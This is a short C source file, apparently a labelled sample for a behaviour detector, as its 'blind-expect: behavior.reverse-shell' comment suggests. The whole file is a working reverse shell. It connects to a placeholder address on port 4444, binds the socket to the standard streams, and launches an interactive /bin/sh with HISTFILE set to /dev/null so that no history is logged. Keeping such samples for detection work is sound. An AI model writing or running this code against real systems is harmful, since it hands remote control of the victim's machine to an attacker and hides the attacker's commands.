// blind-expect: behavior.reverse-shell
// Connects back to a fixed address and hands the connection an interactive /bin/sh.
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

int main(void)
{
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    if (sock < 0)
        return 1;

    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(4444);
    sa.sin_addr.s_addr = inet_addr("192.0.2.66");

    if (connect(sock, (struct sockaddr *)&sa, sizeof sa) != 0) {
        close(sock);
        return 1;
    }

    dup2(sock, 0);
    dup2(sock, 1);
    dup2(sock, 2);

    char *const argv[] = {"/bin/sh", "-i", NULL};
    char *const envp[] = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HISTFILE=/dev/null", NULL};
    execve("/bin/sh", argv, envp);
    return 0;
}
